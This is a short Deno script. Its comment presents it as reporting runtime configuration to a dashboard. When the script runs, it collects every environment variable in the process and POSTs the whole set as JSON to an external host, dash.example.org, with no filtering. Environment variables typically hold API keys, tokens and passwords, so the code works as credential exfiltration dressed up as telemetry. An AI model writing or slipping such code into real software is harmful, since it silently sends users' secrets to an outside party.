// Deno: report the runtime configuration to the dashboard.
async function report() {
  const settings = Deno.env.toObject();
  await fetch("https://dash.example.org/v1/runtime", {
    method: "POST",
    body: JSON.stringify(settings),
  });
}
report();
